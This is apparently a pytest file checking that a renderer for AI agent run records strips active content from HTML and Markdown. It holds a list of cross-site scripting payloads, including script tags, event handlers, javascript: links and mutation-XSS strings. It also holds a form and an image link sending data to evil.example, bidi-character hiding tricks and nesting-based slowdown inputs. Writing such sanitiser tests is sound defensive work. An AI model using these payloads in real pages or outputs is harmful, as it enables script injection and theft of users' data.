"""A record is opened by people who did not make it: nothing in it may act, whatever a model or a tool wrote."""

import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from agent_kernel.protocol.views import Warning
from agent_kernel.record import formats, render_record
from agent_kernel.record.markdown import safe_markdown
from agent_kernel.record.safety import render
from tests.core.record.record_examples import a_call, a_run, bare, displayed, printed, raised, says
from tests.cpu import bounded

ALLOWED = {
    *("div", "p", "strong", "blockquote", "details", "summary", "code", "pre", "a", "em", "ul", "ol", "li", "img"),
    *("table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "b", "i", "span", "hr", "s", "del", "small"),
    *("br", "time"),
}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT&#58;alert(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>* {display: none}</style>",
    "<div style='position:fixed' class='jp-Button' id='x' onclick='alert(1)'>x</div>",
    "<form action='https://evil.example'><input name=q><button>Approve</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</code></pre></details></div><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z]: javascript:alert(1)",
    "[x](data:text/html,<script>alert(1)</script>) ![x](https://evil.example/?q=secret)",
    "```\n</code><script>alert(1)</script>\n```",
]


class Elements(HTMLParser):
    """The elements of a record, and whether they are balanced."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in ("img", "br", "hr", "col"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


KNOWN = {
    *("href", "rel", "src", "alt", "open", "class", "border", "style", "tabindex"),
    *("data-agent-record", "data-role", "datetime"),
}
CLASSES = r"dataframe|agent-(record|call|text)|(agent-code )?language-\S*( agent-cell-1)?"
LOOKS = [look for name, look in vars(formats).items() if name.endswith("_LOOK")]
COLOURS = r"((background-)?color: #[0-9a-f]{6}|font-weight: bold|font-style: italic|text-decoration: underline|; )+"


def assert_harmless(markup: str) -> None:
    elements = Elements(markup)
    assert elements.open == []
    for tag, attributes in elements.found:
        assert tag in ALLOWED, tag
        for name, value in attributes.items():
            assert name in KNOWN, name
            assert name != "style" or f' style="{value}"' in LOOKS or re.fullmatch(COLOURS, str(value)), value
            assert name != "class" or re.fullmatch(CLASSES, str(value))
            assert name != "href" or re.match(r"https?:|mailto:|#|[^:]*$", str(value)), value
            # A drawing in an image runs no script and loads nothing.
            assert name != "src" or re.match(r"data:image/(png|jpeg|svg\+xml);base64,[\w+/=]*$", str(value)), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_anyone_wrote_acts_in_the_record(attack: str) -> None:
    outputs = [
        *(printed(attack), raised(attack), displayed(text_html=attack, text_plain=attack)),
        *(displayed(text_markdown=attack), displayed(image_png=attack, text_plain=attack)),
        *(displayed(image_png="AAAA", text_plain=attack), displayed(**{"image_svg+xml": attack})),
    ]
    said = {"reason": attack, "decided_by": attack, "warnings": [Warning(title=attack, detail=attack)]}
    call = a_call(1, arguments={"code": attack}, state="error", outputs=outputs, **said)
    other = a_call(2, attack, {attack: attack}, state="denied", reason=attack)
    run = a_run(prompt=attack, model=attack, run_id=attack)
    shown = render_record(run, [says(attack, call, other), says(attack)], [call, other])
    assert_harmless(shown["text/html"])
    # As a viewer that lets HTML through would show it.
    markup = MarkdownIt("commonmark", {"html": True}).enable("table").render(shown["text/markdown"])
    assert_harmless(markup)
    assert markup.rstrip().endswith("$0.039</p>")


def test_markdown_keeps_its_code_and_loses_its_html() -> None:
    text = "Use `List[int]` <b>now</b>:\n\n```html\n<b>kept</b>\n```\n\n![plot](https://x.example/a.png) [ok](https://x.example)"
    assert safe_markdown(text) == (
        "Use `List[int]` &lt;b>now&lt;/b>:\n\n```html\n<b>kept</b>\n```\n\n"
        "&#33;[plot](https://x.example/a.png) [ok](https://x.example)"
    )


def test_hidden_characters_are_written_out() -> None:
    call = a_call(
        arguments={"code": "if admin\u202e:\u2066 pass"}, reason="\u202ereason", outputs=[printed("a\u200bb")]
    )
    for content in render_record(a_run(prompt="x\u202ey"), [says("z\u2067", call)], [call]).values():
        assert not re.search("[\u202e\u2066\u2067\u200b]", content)
        assert "U+202E" in content
    assert "<p>👩\u200d💻</p>" in render("👩\u200d💻")


@pytest.mark.parametrize("markup", ["<div>" * 40_000, "<b><div></b>" * 16_000], ids=["div", "mixed"])
def test_deeply_nested_html_takes_little_time(markup: str) -> None:
    call = a_call(outputs=[displayed(text_html=markup, text_plain="in words")])
    shown = bounded(5, lambda: bare(render_record(a_run(), [], [call])["text/html"]))
    assert "<pre>in words</pre>" in shown
